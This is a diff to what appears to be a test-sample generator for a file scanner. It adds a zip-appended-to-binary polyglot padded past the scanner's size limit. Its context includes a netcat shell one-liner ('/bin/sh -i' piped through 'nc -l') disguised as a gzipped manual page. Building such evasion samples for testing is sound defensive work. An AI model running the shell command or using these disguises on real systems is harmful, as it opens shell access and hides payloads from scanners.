@@ -327,6 +327,9 @@ put('bigscript.rpm', rpm(lzma.compress(newc([('./usr/share/pad', pad, 0o100644)]
 z = zipbytes([('__main__.py', b'import os\nos.execv("bin/agent", ["agent"])\n'), ('bin/agent', data)])
 assert zipfile.ZipFile(io.BytesIO(open(ls, 'rb').read() + bytes(z))).read('bin/agent') == data
 put('ls-with-zip', open(ls, 'rb').read() + bytes(z))
+# the same over max_file_bytes (read as it streams by): its members cannot be read then
+put('big-with-zip', open(ls, 'rb').read() + pad + bytes(z))
+assert zipfile.ZipFile(os.path.join(out, 'big-with-zip')).read('bin/agent') == data
 # a script that starts as a manual page: sh runs it all the same
 shell = b'.TH NOTES 1\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 127.0.0.1 1234 > /tmp/f\n'
 put('notes.gz', gzip.compress(shell))
@@ -372,6 +375,7 @@ zeros.tar.gz small-layers archive member data/zero: decodes to more than 64.0 Mi
 nc.xz tools-only needs more memory to decode than portcullis allows
 deflate64.zip tools-only member bin/agent: zip compression method 9, which portcullis does not decode
 bigoverlap.zip tools-only zip member bin/agent is not where the archive's local headers lead
+big-with-zip tools-only a zip archive after other bytes \(what unzip and python3 FILE read\), in a file over yara.max_file_bytes
 biggap.zip tools-only the zip cannot be followed to its central directory as it streams by
 E
 # a gzipped manual page is passed over only where man looks
